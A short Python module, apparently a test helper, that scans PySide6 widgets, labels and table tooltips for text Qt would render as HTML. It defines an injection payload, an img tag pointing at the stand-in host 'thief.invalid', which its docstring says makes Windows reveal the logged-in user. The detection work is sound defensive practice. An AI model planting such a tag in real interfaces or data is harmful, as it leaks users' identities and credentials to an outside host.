"""What Qt would read as HTML, and so load pictures for, though others wrote it as plain words."""

from collections.abc import Iterator

from PySide6.QtCore import QAbstractItemModel
from PySide6.QtGui import Qt
from PySide6.QtWidgets import QLabel, QWidget

TAG = "<img src='//thief.invalid/share/a.png'>"
"""On Windows this asks another computer, and tells it who is logged in."""


def read_as_html(widget: QWidget) -> Iterator[str]:
    """Every label and tooltip of a widget that would ask for the picture of ``TAG``."""
    for each in (widget, *widget.findChildren(QWidget)):
        name = f"{type(each).__name__} of {type(each.parent()).__name__}"
        if "<img" in each.toolTip() and Qt.mightBeRichText(each.toolTip()):
            yield f"{name}: tooltip {each.toolTip()}"
        if isinstance(each, QLabel) and "<img" in each.text():
            plain = each.textFormat() is Qt.TextFormat.PlainText
            if not plain and (
                each.textFormat() is not Qt.TextFormat.AutoText or Qt.mightBeRichText(each.text())
            ):
                yield f"{name}: {each.text()}"


def tips_read_as_html(model: QAbstractItemModel) -> Iterator[str]:
    """Every tooltip of a list or table that would."""
    for row in range(model.rowCount()):
        for column in range(model.columnCount()):
            tip = model.index(row, column).data(Qt.ItemDataRole.ToolTipRole)
            if isinstance(tip, str) and "<img" in tip and Qt.mightBeRichText(tip):
                yield tip
